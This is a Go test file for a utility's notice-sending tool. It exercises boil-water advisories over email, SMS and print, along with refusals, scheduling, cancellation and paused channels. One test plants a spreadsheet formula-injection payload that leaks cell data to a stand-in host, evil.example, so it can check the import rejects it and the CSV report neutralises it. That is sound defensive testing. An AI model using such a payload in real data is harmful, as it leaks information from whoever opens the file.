package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"mime"
	"net/mail"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/crier-notices/crier/config"
	"github.com/crier-notices/crier/internal/emltest"
	"github.com/crier-notices/crier/internal/sinks"
	"github.com/crier-notices/crier/notices"
	"github.com/crier-notices/crier/templates"
)

// readmeValues are the field values of the README's first command.
var readmeValues = []string{
	"--set", "area=Oak Hill Road, Lakeview Drive and Cedar Lane",
	"--set", "cause=main-break",
	"--set", "occurred=Saturday, November 28, 2026",
	"--set", "occurred_time=6:30 AM",
	"--set", "expected=Monday, November 30, 2026",
}

// sendArgs is `send boil-water-advisory` with the README's values and then
// extra.
func sendArgs(extra ...string) []string {
	return append(append([]string{"send", "boil-water-advisory"}, readmeValues...), extra...)
}

// mustCrier runs crier and fails the test unless it exits 0.
func mustCrier(t *testing.T, args ...string) string {
	t.Helper()
	code, stdout, stderr := crier(t, args...)
	if code != 0 {
		t.Fatalf("crier %s: exit %d\n%s%s", strings.Join(args, " "), code, stdout, stderr)
	}
	return stdout
}

// nonTerminalStdin makes standard input a pipe with nothing to read, so
// that no test waits for an answer from whoever runs the tests.
func nonTerminalStdin(t *testing.T) {
	t.Helper()
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	w.Close()
	old := os.Stdin
	os.Stdin = r
	t.Cleanup(func() { os.Stdin = old; r.Close() })
}

// exampleSetup copies the repository's crier.example.toml into a fresh
// folder, imports examples/customers.csv into the list "customers" and
// returns the configuration's path. Its relative paths (crier.db, outbox,
// print) land in that folder.
func exampleSetup(t *testing.T) string {
	t.Helper()
	example, err := os.ReadFile(filepath.Join("..", "..", "crier.example.toml"))
	if err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(t.TempDir(), "crier.toml")
	// The tests send normal text messages at whatever hour they run.
	example = bytes.Replace(example, []byte(`# quiet_hours = "21:00-08:00"`), []byte(`quiet_hours = "off"`), 1)
	if err := os.WriteFile(cfg, example, 0o644); err != nil {
		t.Fatal(err)
	}
	customers, err := filepath.Abs(filepath.Join("..", "..", "examples", "customers.csv"))
	if err != nil {
		t.Fatal(err)
	}
	out := mustCrier(t, "--config", cfg, "contacts", "import", customers, "--list", "customers")
	if !strings.Contains(out, "added 24") {
		t.Fatalf("import:\n%s", out)
	}
	return cfg
}

// customer is a row of examples/customers.csv.
type customer struct {
	account, name, email, mobile, postal, language, emailState, smsState string
}

func readCustomers(t *testing.T) []customer {
	t.Helper()
	f, err := os.Open(filepath.Join("..", "..", "examples", "customers.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	var cs []customer
	for _, r := range rows[1:] {
		cs = append(cs, customer{account: r[col["account"]], name: r[col["name"]], email: r[col["email"]], mobile: r[col["mobile"]],
			postal: r[col["postal_address"]], language: r[col["language"]], emailState: r[col["email_state"]], smsState: r[col["sms_state"]]})
	}
	if len(cs) != 24 {
		t.Fatalf("examples/customers.csv has %d customers, want 24", len(cs))
	}
	return cs
}

// reportCounts reads the per-channel table of `crier report` or `crier
// notices show`: channel -> column -> count.
func reportCounts(t *testing.T, out string) map[string]map[string]int {
	t.Helper()
	lines := strings.Split(out, "\n")
	start := slices.IndexFunc(lines, func(l string) bool { return strings.HasPrefix(l, "CHANNEL ") && strings.Contains(l, "CANCELLED") })
	if start < 0 {
		t.Fatalf("no counts table in:\n%s", out)
	}
	head := strings.Fields(lines[start])
	counts := map[string]map[string]int{}
	for _, l := range lines[start+1:] {
		f := strings.Fields(l)
		if len(f) == 0 {
			break
		}
		if len(f) != len(head) {
			t.Fatalf("row %q does not match the header %q", l, lines[start])
		}
		row := map[string]int{}
		for i, h := range head[1:] {
			n, err := strconv.Atoi(f[i+1])
			if err != nil {
				t.Fatalf("row %q: %s is not a number", l, h)
			}
			row[h] = n
		}
		counts[f[0]] = row
	}
	return counts
}

// wantCounts checks a channel's row: the columns named have their value,
// every other column is 0.
func wantCounts(t *testing.T, counts map[string]map[string]int, ch string, want map[string]int) {
	t.Helper()
	row, ok := counts[ch]
	if !ok {
		t.Errorf("no %s row", ch)
		return
	}
	for col, n := range row {
		if n != want[col] {
			t.Errorf("%s %s = %d, want %d", ch, col, n, want[col])
		}
	}
}

// pdfText is pdftotext's text of pages first to last (0: every page),
// with the white space made single spaces.
func pdfText(t *testing.T, pdftotext, file string, first, last int) string {
	t.Helper()
	args := []string{}
	if first > 0 {
		args = append(args, "-f", strconv.Itoa(first), "-l", strconv.Itoa(last))
	}
	out, err := exec.Command(pdftotext, append(args, file, "-")...).Output()
	if err != nil {
		t.Fatalf("pdftotext %s: %v", file, err)
	}
	return strings.Join(strings.Fields(string(out)), " ")
}

// expectedRenderings renders the README's notice in every language of the
// template, as the dispatcher does, for the subjects and texts to expect.
func expectedRenderings(t *testing.T, cfgPath string) (map[string]*templates.Rendering, *templates.Family) {
	t.Helper()
	cfg, err := config.Load(cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	u, err := cfg.LoadUtility()
	if err != nil {
		t.Fatal(err)
	}
	lib, _, err := cfg.Library()
	if err != nil {
		t.Fatal(err)
	}
	fam, err := lib.Family("boil-water-advisory")
	if err != nil {
		t.Fatal(err)
	}
	var sets []string
	for i := 1; i < len(readmeValues); i += 2 {
		sets = append(sets, readmeValues[i])
	}
	values, err := fieldValues("send", fam, "", sets)
	if err != nil {
		t.Fatal(err)
	}
	rs := map[string]*templates.Rendering{}
	for _, lang := range fam.Languages() {
		r, err := templates.Render(fam.ByLang[lang], values, u, templates.Options{Date: time.Now()})
		if err != nil {
			t.Fatal(err)
		}
		rs[lang] = r
	}
	return rs, fam
}

// TestEndToEndWithDefaults is the first acceptance test: a fresh folder
// with the example configuration (no [smtp], no [twilio]), the sample
// customers, a boil water advisory on every channel, and what lands in the
// outbox and print folders matches the customers one for one.
func TestEndToEndWithDefaults(t *testing.T) {
	pdftotext := needTool(t, "pdftotext")
	nonTerminalStdin(t)
	cfg := exampleSetup(t)
	dir := filepath.Dir(cfg)
	rs, fam := expectedRenderings(t, cfg)

	// Whom each channel should reach, from the CSV: email and SMS to the
	// subscribed addresses; print to those with a postal address and
	// neither an email nor a mobile (notices.printReached), whatever
	// their subscriptions. A language without a translation gets en.
	lang := func(c customer) string {
		if slices.Contains(fam.Languages(), c.language) {
			return c.language
		}
		return "en"
	}
	norm := notices.Normalizer{Region: "US"}
	wantEmail, wantSMS, wantPrint := map[string]customer{}, map[string]customer{}, map[string]customer{}
	for _, c := range readCustomers(t) {
		if c.email != "" && c.emailState != "unsubscribed" {
			wantEmail[c.email] = c
		}
		if c.mobile != "" && c.smsState != "unsubscribed" {
			n, err := norm.Phone(c.mobile)
			if err != nil {
				t.Fatal(err)
			}
			wantSMS[n] = c
		}
		if c.postal != "" && c.email == "" && c.mobile == "" {
			wantPrint[c.name] = c
		}
	}
	// The sample is made to exercise every rule: make sure it still does.
	untranslated := slices.ContainsFunc(slices.Collect(maps.Values(wantEmail)), func(c customer) bool { return c.language != lang(c) })
	if len(wantEmail) == 0 || len(wantSMS) == 0 || len(wantPrint) == 0 || rs["es"] == nil || !untranslated {
		t.Fatalf("the sample no longer covers every channel, Spanish and a language without a translation: %d %d %d %t",
			len(wantEmail), len(wantSMS), len(wantPrint), untranslated)
	}

	out := mustCrier(t, append([]string{"--config", cfg}, sendArgs("--list", "customers", "--channels", "email,sms,print", "--urgency", "emergency", "--yes")...)...)
	for _, w := range []string{
		fmt.Sprintf("email:     %d message(s)", len(wantEmail)),
		fmt.Sprintf("sms:       %d message(s)", len(wantSMS)),
		fmt.Sprintf("print:     %d letter(s), and the flyer", len(wantPrint)),
		fmt.Sprintf("notice 1 sending: email %d, sms %d, print %d", len(wantEmail), len(wantSMS), len(wantPrint)),
	} {
		if !strings.Contains(out, w) {
			t.Errorf("send output lacks %q:\n%s", w, out)
		}
	}
	out = mustCrier(t, "--config", cfg, "dispatch")
	if !strings.Contains(out, fmt.Sprintf("email  [########################] %d/%d sent %d failed 0", len(wantEmail), len(wantEmail), len(wantEmail))) {
		t.Errorf("dispatch output:\n%s", out)
	}

	// Email: one .eml per subscribed address, to that address and name,
	// its subject and text in the customer's language.
	emls, _ := filepath.Glob(filepath.Join(dir, "outbox", "email", "*"))
	if len(emls) != len(wantEmail) {
		t.Errorf("%d files in outbox/email, want %d", len(emls), len(wantEmail))
	}
	gotEmail := map[string]bool{}
	var dec mime.WordDecoder
	for _, f := range emls {
		if !strings.HasSuffix(f, ".eml") || !strings.HasPrefix(filepath.Base(f), "1-") {
			t.Errorf("%s is not named NOTICE-DELIVERY.eml", f)
		}
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		msg, err := mail.ReadMessage(strings.NewReader(string(data)))
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		to, err := msg.Header.AddressList("To")
		if err != nil || len(to) != 1 {
			t.Errorf("%s: To %q (%v)", f, msg.Header.Get("To"), err)
			continue
		}
		c, ok := wantEmail[to[0].Address]
		if !ok {
			t.Errorf("%s goes to %s, who should get no email", f, to[0].Address)
			continue
		}
		if gotEmail[c.email] {
			t.Errorf("%s gets two emails", c.email)
		}
		gotEmail[c.email] = true
		if to[0].Name != c.name {
			t.Errorf("%s: To name %q, want %q", f, to[0].Name, c.name)
		}
		subject, err := dec.DecodeHeader(msg.Header.Get("Subject"))
		if err != nil {
			t.Errorf("%s: Subject: %v", f, err)
		}
		r := rs[lang(c)]
		if subject != r.Subject {
			t.Errorf("%s (%s, language %q): Subject %q, want the %s one %q", f, c.name, c.language, subject, lang(c), r.Subject)
		}
		if e := emltest.Read(t, data); !strings.Contains(e.Text, r.Title) {
			t.Errorf("%s: the text part lacks the %s title %q", f, lang(c), r.Title)
		}
	}

	// SMS: one JSON per subscribed mobile, the text in the customer's
	// language.
	jsons, _ := filepath.Glob(filepath.Join(dir, "outbox", "sms", "*"))
	if len(jsons) != len(wantSMS) {
		t.Errorf("%d files in outbox/sms, want %d", len(jsons), len(wantSMS))
	}
	gotSMS := map[string]bool{}
	for _, f := range jsons {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var m struct {
			To, From, Body, Encoding string
			Segments                 int
		}
		if err := json.Unmarshal(data, &m); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		c, ok := wantSMS[m.To]
		if !ok {
			t.Errorf("%s goes to %s, who should get no text", f, m.To)
			continue
		}
		if gotSMS[m.To] {
			t.Errorf("%s gets two texts", m.To)
		}
		gotSMS[m.To] = true
		r := rs[lang(c)]
		if m.Body != r.SMS.Text || m.Segments != r.SMS.Segments || m.Encoding != string(r.SMS.Encoding) {
			t.Errorf("%s (%s, language %q): %q %s %d; want the %s text %q %s %d", f, c.name, c.language, m.Body, m.Encoding, m.Segments,
				lang(c), r.SMS.Text, r.SMS.Encoding, r.SMS.Segments)
		}
		if m.From != "+13155550142" {
			t.Errorf("%s: from %q, want the utility's phone", f, m.From)
		}
	}

	// Print: the bilingual flyer, and a letter to each postal-only
	// customer, in their language, listed in letters.csv.
	printDir := filepath.Join(dir, "print", "notice-1")
	flyer := pdfText(t, pdftotext, filepath.Join(printDir, "flyer.pdf"), 0, 0)
	for _, l := range fam.Languages() {
		if !strings.Contains(flyer, rs[l].Title) {
			t.Errorf("the flyer lacks the %s title %q", l, rs[l].Title)
		}
	}
	mf, err := os.Open(filepath.Join(printDir, "letters.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer mf.Close()
	manifest, err := csv.NewReader(mf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(manifest) == 0 || !slices.Equal(manifest[0], []string{"page", "name", "address", "language", "delivery"}) {
		t.Fatalf("letters.csv header: %q", manifest)
	}
	if len(manifest)-1 != len(wantPrint) {
		t.Errorf("letters.csv lists %d letters, want %d", len(manifest)-1, len(wantPrint))
	}
	lastPage := 0
	for _, row := range manifest[1:] {
		page, err := strconv.Atoi(row[0])
		if err != nil || page <= lastPage {
			t.Errorf("letters.csv: page %q after page %d", row[0], lastPage)
			continue
		}
		lastPage = page
		c, ok := wantPrint[row[1]]
		if !ok {
			t.Errorf("letters.csv lists %q, who should get no letter", row[1])
			continue
		}
		delete(wantPrint, row[1])
		if row[2] != c.postal || row[3] != lang(c) {
			t.Errorf("letters.csv row %q; want address %q, language %s", row, c.postal, lang(c))
		}
		text := pdfText(t, pdftotext, filepath.Join(printDir, "letters.pdf"), page, page)
		firstLine, _, _ := strings.Cut(c.postal, "\n")
		if !strings.Contains(text, c.name) || !strings.Contains(text, firstLine) || !strings.Contains(text, rs[lang(c)].Title) {
			t.Errorf("page %d of letters.pdf lacks %q, %q or the %s title:\n%s", page, c.name, firstLine, lang(c), text)
		}
	}
	for name := range wantPrint {
		t.Errorf("no letter for %s", name)
	}
	printed := len(manifest) - 1

	// The report agrees with the files, and its CSV has a row per
	// delivery, each sent.
	csvFile := filepath.Join(t.TempDir(), "deliveries.csv")
	mustCrier(t, "--config", cfg, "report", "1")
	out = mustCrier(t, "--config", cfg, "report", "1", "--csv", csvFile)
	if !strings.HasPrefix(out, "notice 1 (boil-water-advisory, emergency): done\n") {
		t.Errorf("report:\n%s", out)
	}
	counts := reportCounts(t, out)
	wantCounts(t, counts, "email", map[string]int{"TOTAL": len(emls), "SENT": len(emls)})
	wantCounts(t, counts, "sms", map[string]int{"TOTAL": len(jsons), "SENT": len(jsons)})
	wantCounts(t, counts, "print", map[string]int{"TOTAL": printed, "SENT": printed})
	if strings.Contains(out, "failures:") {
		t.Errorf("the report lists failures:\n%s", out)
	}

	cf, err := os.Open(csvFile)
	if err != nil {
		t.Fatal(err)
	}
	defer cf.Close()
	rows, err := csv.NewReader(cf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if want := len(emls) + len(jsons) + printed; len(rows)-1 != want {
		t.Errorf("the CSV has %d deliveries, want %d", len(rows)-1, want)
	}
	perChannel := map[string]int{}
	for _, row := range rows[1:] {
		perChannel[row[1]]++
		addr := notices.RestoreCell(row[2])
		switch {
		case row[1] == "sms" && row[2] != addr:
			t.Errorf("CSV row %q: a mobile number is written as it is, without a quote", row)
		case row[5] != "sent" || row[6] != "1" || row[9] == "":
			t.Errorf("CSV row %q: want status sent after 1 attempt, with a time", row)
		case row[1] == "email" && !gotEmail[addr], row[1] == "sms" && !gotSMS[addr]:
			t.Errorf("CSV row %q: no message went to that address", row)
		}
	}
	if perChannel["email"] != len(emls) || perChannel["sms"] != len(jsons) || perChannel["print"] != printed {
		t.Errorf("CSV rows per channel %v", perChannel)
	}
}

func TestSendRefusals(t *testing.T) {
	nonTerminalStdin(t)
	cfg := exampleSetup(t)
	past := time.Now().Add(-time.Hour).In(mustLoad(t, "America/New_York")).Format("2006-01-02 15:04")
	// without returns the README's values without field.
	without := func(field string) []string {
		var out []string
		for i := 0; i < len(readmeValues); i += 2 {
			if !strings.HasPrefix(readmeValues[i+1], field+"=") {
				out = append(out, readmeValues[i:i+2]...)
			}
		}
		return out
	}
	devNull := func(t *testing.T) {
		f, err := os.Open(os.DevNull)
		if err != nil {
			t.Fatal(err)
		}
		old := os.Stdin
		os.Stdin = f
		t.Cleanup(func() { os.Stdin = old; f.Close() })
	}
	tests := []struct {
		name  string
		args  []string
		stdin func(*testing.T) // default: a pipe with nothing in it
		code  int
		want  []string
	}{
		{name: "no --yes off a terminal", args: sendArgs("--list", "customers", "--channels", "email"), code: 2,
			want: []string{"standard input is not a terminal", "add --yes"}},
		{name: "no --yes with input from /dev/null", args: sendArgs("--list", "customers", "--channels", "email"), stdin: devNull, code: 2,
			want: []string{"standard input is not a terminal", "add --yes"}},
		{name: "unknown channel", args: sendArgs("--channels", "email,fax", "--yes"), code: 2,
			want: []string{`"fax" is not a channel (use email, sms, print)`, "see crier send --help"}},
		{name: "channel twice", args: sendArgs("--channels", "sms,sms", "--yes"), code: 2, want: []string{"sms is named twice"}},
		{name: "no channels", args: sendArgs("--yes"), code: 2, want: []string{"--channels"}},
		{name: "bad urgency", args: sendArgs("--channels", "email", "--urgency", "high", "--yes"), code: 2, want: []string{"--urgency"}},
		{name: "language without a translation", args: sendArgs("--channels", "email", "--lang", "en,vi", "--yes"), code: 2,
			want: []string{`template boil-water-advisory has no "vi" translation (it has: en, es)`}},
		{name: "send time past", args: sendArgs("--channels", "email", "--at", past, "--yes"), code: 2,
			want: []string{"--at \"" + past + "\" is past", "leave --at out to send at once"}},
		{name: "send time unreadable", args: sendArgs("--channels", "email", "--at", "tomorrow 9am", "--yes"), code: 2,
			want: []string{"write it as YYYY-MM-DD HH:MM"}},
		{name: "required values missing", args: append([]string{"send", "boil-water-advisory", "--channels", "email", "--yes"}, without("expected")...), code: 1,
			want: []string{"cannot be filled with these values", "expected (Expected resolution date): required"}},
		{name: "a 10 MB value", args: sendArgs("--list", "customers", "--channels", "email", "--yes", "--set", "area="+strings.Repeat("Oak Hill Road ", 750_000)), code: 1,
			want: []string{`area (Affected area): "Oak Hill Road Oak Hill Road`, `is 10,499,999 characters long; field "area" takes at most 300`}},
		{name: "audience with no contacts", args: sendArgs("--zone", "99", "--channels", "print", "--yes"), code: 1,
			want: []string{"the audience has no contacts"}},
		{name: "audience reaching nobody on the channels", args: sendArgs("--street", "8 Oak Hill Road", "--channels", "email,sms", "--yes"), code: 1,
			want: []string{"the audience reaches nobody on these channels"}},
		{name: "unknown list", args: sendArgs("--list", "nowhere", "--channels", "email", "--yes"), code: 1,
			want: []string{`no list named "nowhere"`}},
		{name: "unknown template", args: []string{"send", "no-such-notice", "--channels", "email", "--yes"}, code: 1,
			want: []string{"no-such-notice"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.stdin != nil {
				tt.stdin(t)
			}
			code, stdout, stderr := crier(t, append([]string{"--config", cfg}, tt.args...)...)
			if code != tt.code {
				t.Errorf("exit %d, want %d\n%s%s", code, tt.code, stdout, stderr)
			}
			for _, w := range tt.want {
				if !strings.Contains(stderr, w) {
					t.Errorf("stderr lacks %q:\n%s", w, stderr)
				}
			}
			if out := mustCrier(t, "--config", cfg, "notices", "list"); !strings.Contains(out, "no notices yet") {
				t.Errorf("a refused send queued a notice:\n%s", out)
			}
		})
	}
}

func mustLoad(t *testing.T, name string) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation(name)
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

// outboxFiles counts the files the outbox and print channels wrote.
func outboxFiles(t *testing.T, cfg string) int {
	t.Helper()
	n := 0
	for _, d := range []string{"outbox", "print"} {
		filepath.WalkDir(filepath.Join(filepath.Dir(cfg), d), func(_ string, e os.DirEntry, err error) error {
			if err == nil && !e.IsDir() {
				n++
			}
			return nil
		})
	}
	return n
}

func TestSendLater(t *testing.T) {
	nonTerminalStdin(t)
	cfg := exampleSetup(t)
	loc := mustLoad(t, "America/New_York")
	at := time.Now().Add(48 * time.Hour).In(loc).Truncate(time.Minute)
	out := mustCrier(t, append([]string{"--config", cfg}, sendArgs("--list", "customers", "--channels", "email,sms,print", "--at", at.Format("2006-01-02 15:04"), "--yes")...)...)
	if !strings.Contains(out, "send:      "+at.Format("Monday 2 January 2006 15:04 MST")) || !strings.Contains(out, "notice 1 scheduled: email 14, sms 14, print 5\n") ||
		!strings.Contains(out, "to the audience as it is then") {
		t.Errorf("send:\n%s", out)
	}

	out = mustCrier(t, "--config", cfg, "dispatch")
	if !strings.Contains(out, "nothing to send") {
		t.Errorf("dispatch before the send time:\n%s", out)
	}
	if n := outboxFiles(t, cfg); n != 0 {
		t.Errorf("dispatch before the send time wrote %d files", n)
	}

	out = mustCrier(t, "--config", cfg, "notices", "show", "1")
	if !strings.HasPrefix(out, "notice 1: scheduled\n") || !strings.Contains(out, "send at:   "+at.Format("2006-01-02 15:04 MST")+"\n") {
		t.Errorf("notices show:\n%s", out)
	}
	if !strings.Contains(out, "not published yet: its deliveries are written at its send time") {
		t.Errorf("notices show does not say the notice is published at its time:\n%s", out)
	}
	if out := mustCrier(t, "--config", cfg, "notices", "list"); !strings.Contains(out, at.Format("2006-01-02 15:04 MST")) {
		t.Errorf("notices list lacks the send time:\n%s", out)
	}
}

func TestNoticesCancelResumeShow(t *testing.T) {
	nonTerminalStdin(t)
	cfg := exampleSetup(t)
	mustCrier(t, append([]string{"--config", cfg}, sendArgs("--list", "customers", "--channels", "email,sms,print", "--yes")...)...)
	before := reportCounts(t, mustCrier(t, "--config", cfg, "report", "1"))
	total := 0
	for _, row := range before {
		total += row["TOTAL"]
	}

	out := mustCrier(t, "--config", cfg, "notices", "cancel", "1")
	if want := fmt.Sprintf("notice 1 cancelled: %d queued deliveries cancelled; any a dispatcher holds now end cancelled, except those being sent at this moment\n", total); out != want {
		t.Errorf("cancel says:\n%swant:\n%s", out, want)
	}
	out = mustCrier(t, "--config", cfg, "report", "1")
	if !strings.HasPrefix(out, "notice 1 (boil-water-advisory, emergency): cancelled\n") {
		t.Errorf("report:\n%s", out)
	}
	for ch, row := range reportCounts(t, out) {
		wantCounts(t, map[string]map[string]int{ch: row}, ch, map[string]int{"TOTAL": before[ch]["TOTAL"], "CANCELLED": before[ch]["TOTAL"]})
	}
	if out := mustCrier(t, "--config", cfg, "dispatch"); !strings.Contains(out, "nothing to send") {
		t.Errorf("dispatch of a cancelled notice:\n%s", out)
	}
	if n := outboxFiles(t, cfg); n != 0 {
		t.Errorf("dispatch of a cancelled notice wrote %d files", n)
	}

	tests := []struct {
		name string
		args []string
		want string
	}{
		{"cancel twice", []string{"notices", "cancel", "1"}, "notice 1 is cancelled: there is nothing left to cancel"},
		{"resume with nothing paused", []string{"notices", "resume", "1"}, "notice 1 has no paused channel to resume"},
		{"show a missing notice", []string{"notices", "show", "99"}, "no notice 99 (crier notices list shows them)"},
		{"report a missing notice", []string{"report", "99"}, "no notice 99 (crier notices list shows them)"},
		{"cancel a missing notice", []string{"notices", "cancel", "99"}, "no notice 99"},
		{"resume a missing notice", []string{"notices", "resume", "99"}, "no notice 99"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, stdout, stderr := crier(t, append([]string{"--config", cfg}, tt.args...)...)
			if code != 1 || !strings.Contains(stderr, tt.want) {
				t.Errorf("exit %d; want 1 and %q\n%s%s", code, tt.want, stdout, stderr)
			}
		})
	}
}

func TestReportCSVNeutralizesFormulas(t *testing.T) {
	nonTerminalStdin(t)
	dir := t.TempDir()
	cfg := filepath.Join(dir, "crier.toml")
	if err := os.WriteFile(cfg, []byte(clearwaterConfig), 0o644); err != nil {
		t.Fatal(err)
	}
	const formula = `=HYPERLINK("https://evil.example/?leak="&A1,"Click")`
	// The import refuses such names, so they come in by another way (the
	// API, an older version): straight into the store.
	contacts := filepath.Join(dir, "contacts.csv")
	body := "account,name,email,language\n" +
		`1,"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",mallory@example.org,en` + "\n"
	if err := os.WriteFile(contacts, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	rejects := filepath.Join(dir, "rejects.csv")
	code, stdout, stderr := crier(t, "--config", cfg, "contacts", "import", contacts, "--rejects", rejects)
	if why, _ := os.ReadFile(rejects); code != 1 || !strings.Contains(string(why), "looks like a spreadsheet formula") {
		t.Errorf("import of a formula name: exit %d\n%s%s\nrejects: %s", code, stdout, stderr, why)
	}
	ctx := context.Background()
	s, err := notices.Open(ctx, filepath.Join(dir, "crier.db"))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []notices.Contact{
		{Account: "1", Name: formula, Email: "mallory@example.org", Language: "en"},
		{Account: "2", Name: "@SUM(1+1)", Email: "sum@example.org", Language: "en"},
		{Account: "3", Name: "Ana Díaz", Email: "ana@example.org", Language: "es"},
	} {
		if _, err := s.SaveContact(ctx, c); err != nil {
			t.Fatal(err)
		}
	}
	s.Close()
	mustCrier(t, append([]string{"--config", cfg}, sendArgs("--all", "--channels", "email", "--yes")...)...)
	mustCrier(t, "--config", cfg, "dispatch")
	csvFile := filepath.Join(dir, "deliveries.csv")
	mustCrier(t, "--config", cfg, "report", "1", "--csv", csvFile)

	f, err := os.Open(csvFile)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, row := range rows[1:] {
		names[row[3]] = true
		if row[5] != "sent" {
			t.Errorf("row %q not sent", row)
		}
	}
	for _, want := range []string{"'" + formula, "'@SUM(1+1)", "Ana Díaz"} {
		if !names[want] {
			t.Errorf("no name cell %q among %v", want, names)
		}
	}
}

// TestPausedChannelFlow: an SMTP server that refuses crier's login pauses
// the email channel of the notice; the coordinator sees why, fixes the
// configuration, resumes, and the rest goes.
func TestPausedChannelFlow(t *testing.T) {
	nonTerminalStdin(t)
	refusing, err := sinks.StartSMTP("127.0.0.1:0", sinks.RequireAuth("crier", "right"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { refusing.Close() })
	accepting, err := sinks.StartSMTP("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { accepting.Close() })

	dir := t.TempDir()
	cfg := filepath.Join(dir, "crier.toml")
	writeSMTP := func(s *sinks.SMTP, extra string) {
		t.Helper()
		// The text messages are normal ones, sent at whatever hour the test runs.
		body := clearwaterConfig + fmt.Sprintf("\n[schedule]\nquiet_hours = \"off\"\n[smtp]\nhost = %q\nport = %d\ntls = \"none\"\n%s", s.Host(), s.Port(), extra)
		if err := os.WriteFile(cfg, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	writeSMTP(refusing, "username = \"crier\"\n")
	t.Setenv(config.EnvSMTPPassword, "wrong")

	customers, err := filepath.Abs(filepath.Join("..", "..", "examples", "customers.csv"))
	if err != nil {
		t.Fatal(err)
	}
	mustCrier(t, "--config", cfg, "contacts", "import", customers)
	mustCrier(t, append([]string{"--config", cfg}, sendArgs("--all", "--channels", "email,sms", "--yes")...)...)
	queued := reportCounts(t, mustCrier(t, "--config", cfg, "report", "1"))

	code, stdout, stderr := crier(t, "--config", cfg, "dispatch")
	if code != 1 || !strings.Contains(stderr, "notice 1: email paused: ") || !strings.Contains(stderr, "crier notices resume 1") {
		t.Fatalf("dispatch: exit %d; want 1, email paused and how to resume\n%s%s", code, stdout, stderr)
	}
	t.Logf("dispatch says:\n%s", stderr)
	if strings.Contains(stdout+stderr, "wrong") {
		t.Errorf("dispatch gives the password away:\n%s%s", stdout, stderr)
	}

	out := mustCrier(t, "--config", cfg, "notices", "show", "1")
	if !strings.Contains(out, "\nemail PAUSED since ") || !strings.Contains(out, "fix the cause, then run: crier notices resume 1") {
		t.Errorf("notices show:\n%s", out)
	}
	if strings.Contains(out, "wrong") {
		t.Errorf("notices show gives the password away:\n%s", out)
	}
	counts := reportCounts(t, out)
	wantCounts(t, counts, "email", map[string]int{"TOTAL": queued["email"]["TOTAL"], "QUEUED": queued["email"]["TOTAL"]})
	wantCounts(t, counts, "sms", map[string]int{"TOTAL": queued["sms"]["TOTAL"], "SENT": queued["sms"]["TOTAL"]})
	if out := mustCrier(t, "--config", cfg, "notices", "list"); !strings.Contains(out, "PAUSED") {
		t.Errorf("notices list does not show the pause:\n%s", out)
	}
	if n := refusing.Accepted(); n != 0 {
		t.Errorf("the refusing server accepted %d messages", n)
	}

	// A dispatch before the resume sends nothing more and still says so.
	code, _, stderr = crier(t, "--config", cfg, "dispatch")
	if code != 1 || !strings.Contains(stderr, "crier notices resume 1") {
		t.Errorf("second dispatch: exit %d\n%s", code, stderr)
	}

	// The fix: a server that takes mail without a login.
	writeSMTP(accepting, "")
	t.Setenv(config.EnvSMTPPassword, "")
	out = mustCrier(t, "--config", cfg, "notices", "resume", "1")
	if !strings.Contains(out, "notice 1: email resumed (it was paused: ") {
		t.Errorf("resume:\n%s", out)
	}
	mustCrier(t, "--config", cfg, "dispatch")
	out = mustCrier(t, "--config", cfg, "report", "1")
	if !strings.HasPrefix(out, "notice 1 (boil-water-advisory, emergency): done\n") {
		t.Errorf("report:\n%s", out)
	}
	counts = reportCounts(t, out)
	wantCounts(t, counts, "email", map[string]int{"TOTAL": queued["email"]["TOTAL"], "SENT": queued["email"]["TOTAL"]})
	if n := accepting.Accepted(); n != int64(queued["email"]["TOTAL"]) {
		t.Errorf("the server accepted %d emails, want %d", n, queued["email"]["TOTAL"])
	}
	if out := mustCrier(t, "--config", cfg, "notices", "show", "1"); strings.Contains(out, "PAUSED") {
		t.Errorf("still paused after the resume:\n%s", out)
	}
}

// TestSendOneLanguage: with --lang es every customer gets Spanish, those
// whose language is not Spanish included, since the notice goes out in no
// other language.
func TestSendOneLanguage(t *testing.T) {
	nonTerminalStdin(t)
	cfg := exampleSetup(t)
	rs, _ := expectedRenderings(t, cfg)
	out := mustCrier(t, append([]string{"--config", cfg}, sendArgs("--list", "customers", "--channels", "email,sms", "--lang", "es", "--yes")...)...)
	if !strings.HasPrefix(out, "notice:    boil-water-advisory (es)\n") {
		t.Errorf("send:\n%s", out)
	}
	mustCrier(t, "--config", cfg, "dispatch")
	if out := mustCrier(t, "--config", cfg, "notices", "show", "1"); !strings.Contains(out, "languages: es\n") {
		t.Errorf("notices show:\n%s", out)
	}
	emls, _ := filepath.Glob(filepath.Join(filepath.Dir(cfg), "outbox", "email", "*.eml"))
	jsons, _ := filepath.Glob(filepath.Join(filepath.Dir(cfg), "outbox", "sms", "*.json"))
	if len(emls) == 0 || len(jsons) == 0 {
